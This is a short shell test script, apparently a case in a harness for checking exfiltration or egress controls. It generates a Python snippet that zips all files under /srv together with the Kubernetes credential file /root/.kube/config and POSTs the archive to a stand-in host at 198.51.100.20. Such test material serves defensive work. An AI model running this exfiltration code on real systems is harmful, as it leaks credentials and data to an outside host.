#!/bin/sh
. /opt/case/case.sh

head -c 4000000 /dev/urandom >/srv/data/big
cat >/tmp/z.py <<'END'
import io, pathlib, urllib.request, zipfile
box = io.BytesIO()
with zipfile.ZipFile(box, "w") as archive:
    for path in pathlib.Path("/srv").rglob("*"):
        archive.write(path)
    archive.write("/root/.kube/config")
print(urllib.request.urlopen("http://198.51.100.20/z", box.getvalue()).read())
END
python3 /tmp/z.py | grep -q ok
took_place
